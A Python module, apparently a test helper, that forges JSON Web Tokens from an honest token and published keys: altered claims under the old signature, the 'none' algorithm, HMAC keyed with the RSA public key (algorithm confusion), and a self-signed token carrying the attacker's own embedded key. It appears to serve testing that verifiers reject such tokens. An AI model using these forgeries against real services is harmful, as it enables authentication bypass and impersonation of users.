"""What an attacker can make without the private key, out of an honest token and the published keys."""

import base64
import hmac
import json
import secrets
from collections.abc import Callable, Mapping
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

Sign = Callable[[bytes], bytes]
"""The signing input to a signature."""


def encode(value: Mapping[str, Any]) -> str:
    """Spell one part of a token."""
    return to_text(json.dumps(value, separators=(",", ":")).encode())


def decode(part: str) -> dict[str, Any]:
    """Read one part of a token."""
    value: dict[str, Any] = json.loads(to_bytes(part))
    return value


def to_text(data: bytes) -> str:
    """Base64url without padding."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def to_bytes(text: str) -> bytes:
    """Undo it."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def altered(token: str, *, header: Mapping[str, Any] | None = None, claims: Mapping[str, Any] | None = None) -> str:
    """Change members of an honest token and keep its signature."""
    head, payload, signature = token.split(".")
    if header is not None:
        head = encode({**decode(head), **header})
    if claims is not None:
        payload = encode({**decode(payload), **claims})
    return f"{head}.{payload}.{signature}"


def resigned(token: str, sign: Sign, *, header: Mapping[str, Any]) -> str:
    """Change header members of an honest token and sign it anew, with whatever ``sign`` can do."""
    head, payload, _ = token.split(".")
    head = encode({**decode(head), **header})
    return f"{head}.{payload}.{to_text(sign(f'{head}.{payload}'.encode()))}"


def unsigned(_: bytes) -> bytes:
    """No signature at all (``alg`` none)."""
    return b""


def with_public_key_as_secret(jwk: Mapping[str, str]) -> Sign:
    """HMAC keyed with the text of the public key, which everybody has (algorithm confusion)."""
    numbers = rsa.RSAPublicNumbers(int.from_bytes(to_bytes(jwk["e"]), "big"), int.from_bytes(to_bytes(jwk["n"]), "big"))
    pem = numbers.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return lambda data: hmac.digest(pem, data, "sha256")


class OwnKey:
    """A key pair of the attacker's."""

    def __init__(self) -> None:
        self._key = rsa.generate_private_key(65537, 2048)

    def jwk(self, kid: str) -> dict[str, str]:
        """Give the public half, as a token would carry it in ``jwk``."""
        numbers = self._key.public_key().public_numbers()
        return {
            "kty": "RSA",
            "kid": kid,
            "alg": "RS256",
            "n": to_text(numbers.n.to_bytes(256, "big")),
            "e": to_text(numbers.e.to_bytes(3, "big")),
        }

    def sign(self, data: bytes) -> bytes:
        """Sign as RS256."""
        return self._key.sign(data, padding.PKCS1v15(), hashes.SHA256())


def random_kid() -> str:
    """Give a kid nobody publishes, of the length of a thumbprint."""
    return secrets.token_urlsafe(32)
